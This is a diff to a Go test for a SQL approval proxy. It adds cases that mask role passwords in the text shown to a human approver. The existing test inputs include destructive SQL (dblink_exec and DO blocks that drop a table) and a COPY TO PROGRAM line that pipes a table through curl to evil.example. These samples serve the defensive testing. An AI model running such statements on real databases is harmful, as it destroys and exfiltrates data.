@@ -17,13 +17,19 @@ func TestSQLApprovalText(t *testing.T) {
 		{"SELECT dblink_exec('dbname=shop', 'DROP TABLE victim')", "SELECT dblink_exec('dbname=shop', 'DROP TABLE victim')"},
 		{"DO $$BEGIN EXECUTE 'DROP TABLE ' || 'victim'; END$$", "DO $$BEGIN EXECUTE 'DROP TABLE ' || 'victim'; END$$"},
 		{"COPY victim TO PROGRAM 'curl -d @- http://evil.example/'", "COPY victim TO PROGRAM 'curl -d @- http://evil.example/'"},
+		// A role's password is the one constant an approver does not need to see.
+		{"ALTER ROLE app WITH LOGIN PASSWORD 's3cr''et' VALID UNTIL '2030-01-01'", "ALTER ROLE app WITH LOGIN PASSWORD '********' VALID UNTIL '2030-01-01'"},
+		{"CREATE USER u PASSWORD E'x\\y'; SELECT 'password'", "CREATE USER u PASSWORD '********'; SELECT 'password'"},
 	} {
 		for range 2 { // a second time from the classifier's cache
 			sts, err := c.Classify(tc.sql)
-			if err != nil || len(sts) != 1 {
+			if err != nil || len(sts) == 0 {
 				t.Fatalf("%s: %v", tc.sql, err)
 			}
-			if got := sqlApprovalText(sts[0]); got != tc.want {
+			if got := sqlApprovalText(pgproxy.Statement{SQL: tc.sql}); len(sts) > 1 && got != tc.want {
+				t.Errorf("approver sees %q, want %q", got, tc.want)
+			}
+			if got := sqlApprovalText(sts[0]); len(sts) == 1 && got != tc.want {
 				t.Errorf("approver sees %q, want %q", got, tc.want)
 			}
 		}
